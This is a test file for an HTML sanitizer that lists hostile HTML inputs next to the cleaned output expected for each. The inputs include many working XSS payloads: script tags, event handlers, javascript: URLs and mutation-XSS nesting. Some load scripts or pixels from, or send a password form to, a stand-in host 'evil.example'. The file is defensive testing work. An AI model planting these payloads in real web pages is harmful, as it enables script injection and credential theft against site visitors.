import { expect, test } from "vitest";
import { parseHtml } from "./parse-html.ts";
import { leavesSite, sanitize, toSafeHtml } from "./sanitize.ts";

const clean = (html: string) => toSafeHtml(parseHtml(html));

test.each([
  // Videos, which become links
  ['<figure class="other" data-video="youtube:x&quot;onload" data-x="1">a</figure>', "<figure>a</figure>"],
  // Content that would run
  ["<p>a</p><script>alert(1)</script>", "<p>a</p>"],
  ["<script src=//evil.example/x.js></script>", ""],
  ["<SCRIPT>alert(1)</SCRIPT >b", "b"],
  ["<scr<script>ipt>alert(1)</script>", "ipt>alert(1)"],
  ['<img src="/a.png" onerror="alert(1)">', '<img src="/a.png">'],
  ["<p onclick=alert(1) onmouseover='x'>a</p>", "<p>a</p>"],
  ["<details open ontoggle=alert(1)><summary>a</summary></details>", "<details open><summary>a</summary></details>"],
  ["<svg onload=alert(1)><circle/></svg>a", "a"],
  ["<svg><script>alert(1)</script></svg>", ""],
  ["<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>", ""],
  ["<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>", ""],
  ["<template><img src=x onerror=alert(1)></template>a", "a"],
  // Content that would be fetched or framed
  ["<iframe src=https://evil.example></iframe>a", "a"],
  ["<iframe srcdoc='<script>alert(1)</script>'></iframe>", ""],
  ["<object data=x><embed src=x></object>a", "a"],
  ["<img src=https://evil.example/pixel.gif>a", "a"],
  ["<img src=//evil.example/pixel.gif>a", "a"],
  ["<img src='/\\evil.example/pixel.gif'>a", "a"],
  ["<img src=data:image/svg+xml,x>a", "a"],
  ["<img alt=none>a", "a"],
  ['<img src="/a.png" srcset="https://evil.example/a.png 2x" style="x">', '<img src="/a.png">'],
  ["<video src=//evil.example/a.mp4></video><audio src=https://evil.example/a.mp3></audio>a", "a"],
  ["<video><source src=https://evil.example/a.mp4></video><audio></audio>a", "a"],
  [
    "<video src=/a.mp4><track src=/a.vtt kind=x srclang=en><track src=//evil.example/b.vtt></video><track src=/c.vtt>",
    '<video src="/a.mp4"><track src="/a.vtt" srclang="en"></video>',
  ],
  ["<video src=/a.mp4 poster=//evil.example/a.png autoplay loop></video>", '<video src="/a.mp4"></video>'],
  ['<img src="/a.png" srcset="/b.png 600w, /c.png 1200w">', '<img src="/a.png" srcset="/b.png 600w, /c.png 1200w">'],
  ['<img src="/a.png" srcset="/b.png 600w,/\\\\evil.example/c.png 1200w">', '<img src="/a.png">'],
  // Classes of block editors, and no others
  ['<div class="wp-block-columns frame alignwide no-print">a</div>', '<div class="wp-block-columns alignwide">a</div>'],
  ['<p class="has-red-color fixed has-text-align-center">a</p>', '<p class="has-text-align-center">a</p>'],
  ['<link rel=stylesheet href=//evil.example/a.css><meta http-equiv=refresh content="0;url=//evil.example">a', "a"],
  ["<base href=//evil.example/>a", "a"],
  ["<style>p{display:none}</style>a", "a"],
  ['<p style="position:fixed;inset:0">a</p>', "<p>a</p>"],
  ["<table background=//e.x/a.png><tr><td>a</table>", "<table><tbody><tr><td>a</td></tr></tbody></table>"],
  // Addresses
  ["<a href=javascript:alert(1)>a</a>", "<a>a</a>"],
  ["<a href='JaVaScRiPt:alert(1)'>a</a>", "<a>a</a>"],
  ["<a href='java\nscript:alert(1)'>a</a>", "<a>a</a>"],
  ["<a href='&#106;avascript&colon;alert(1)'>a</a>", "<a>a</a>"],
  ["<a href=' javascript:alert(1)'>a</a>", "<a>a</a>"],
  ["<a href='\u0001javascript:alert(1)'>a</a>", "<a>a</a>"],
  ["<a href='vbscript:x'>a</a>", "<a>a</a>"],
  ["<a href='data:text/html,<script>alert(1)</script>'>a</a>", "<a>a</a>"],
  ["<a href='blob:https://evil.example/x'>a</a>", "<a>a</a>"],
  ["<blockquote cite=javascript:alert(1)>a</blockquote>", "<blockquote>a</blockquote>"],
  ["<a href=/en/blog/b target=_blank ping=//evil.example download>a</a>", '<a href="/en/blog/b">a</a>'],
  // Elements that visitors would fill in
  ["<form action=//evil.example><input name=password><button>Send</button></form>a", "a"],
  ["<button formaction=javascript:alert(1)>x</button><select><option>y</select><textarea>z</textarea>a", "a"],
  ["<dialog open>x</dialog>a", "a"],
  // Attributes that would collide with the page or imitate it
  ["<p id=main>a</p>", '<p id="text-main">a</p>'],
  ["<a name=location>a</a><p id=text-x>b</p>", '<a>a</a><p id="text-x">b</p>'],
  ["<p id=x>a</p><p id=x>b</p><p id=text-x>c</p>", '<p id="text-x">a</p><p id="text-x-1">b</p><p id="text-x-2">c</p>'],
  ["<p id>a</p>", "<p>a</p>"],
  ["<a href=#top>a</a><a href=#>b</a>", '<a href="#text-top">a</a><a href="#">b</a>'],
  ['<p class="fixed inset-0">a</p>', "<p>a</p>"],
  ['<div class="table-scroll fixed" role=alert tabindex=5>a</div>', '<div class="table-scroll">a</div>'],
  ["<p data-discover=true data-wp-on--click=x aria-hidden=true contenteditable>a</p>", "<p>a</p>"],
  ["<p is=x-evil slot=y part=z>a</p><x-evil>b</x-evil>", "<p>a</p>b"],
  // Markup that is not text, and text that looks like markup
  ["a<!-- secret --><!doctype html><?php echo 1 ?>b", "ab"],
  ["<html><head><title>x</title></head><body onload=alert(1)><p>a</p></body></html>", "<p>a</p>"],
  ["a &lt;script&gt;alert(1)&lt;/script&gt;", "a &#x3C;script>alert(1)&#x3C;/script>"],
  ["<p title='\"><script>alert(1)</script>'>a</p>", '<p title="&#x22;>&lt;script>alert(1)&lt;/script>">a</p>'],
  [
    "a=\"<b title='&lt;script'>b</b>\"<img src=/a.png alt='<script>x</script>'><p title=\"'<!--\">",
    'a="<b title="&lt;script">b</b>"<img src="/a.png" alt="&lt;script>x&lt;/script>"><p title="&#x27;&lt;!--"></p>',
  ],
  ["<p><b>a<i>b</p>", "<p><b>a<i>b</i></b></p>"],
])("%s", (hostile, harmless) => {
  expect(clean(hostile)).toBe(harmless);
});

test.each([
  '<figure class="video" data-video="youtube:dQw4w9WgXcQ">a</figure>',
  '<p lang="kk" dir="ltr">a <strong>b</strong> <em>c</em> <code>d</code><br><kbd>e</kbd></p>',
  '<a href="https://example.org/a?b=c#d" rel="noopener">a</a>',
  '<a href="mailto:hello@tabelio.example">a</a><a href="tel:+77000000000">b</a>',
  '<figure><img src="/media/a.avif" alt="a" width="8" height="6" loading="lazy" decoding="async"><figcaption>b</figcaption></figure>',
  '<ol start="3"><li value="4">a</li></ol>',
  '<table><caption>a</caption><thead><tr><th scope="col">b</th></tr></thead><tbody><tr><td colspan="2" class="align-end">c</td></tr></tbody></table>',
  '<div class="table-scroll" tabindex="0" role="group" aria-label="a">b</div>',
  "<details><summary>a</summary><p>b</p></details>",
])("keeps %s", (html) => {
  expect(clean(html)).toBe(html);
});

test("does not change the given tree, and changes nothing the second time", () => {
  const tree = parseHtml('<h2 id="a">b</h2><a href="#a">c</a><p id="a">d</p><script>e</script>');
  const before = structuredClone(tree);
  const once = sanitize(tree);
  expect(tree).toEqual(before);
  expect(sanitize(once)).toEqual(once);
});

test.each([
  ["/en/blog/a", false],
  ["b", false],
  ["#c", false],
  ["?d", false],
  ["https://example.org", true],
  ["//example.org", true],
  ["/\\example.org", true],
  ["mailto:a@example.org", true],
  ["https://", true],
])("%s leads elsewhere: %s", (address, expected) => {
  expect(leavesSite(address)).toBe(expected);
});
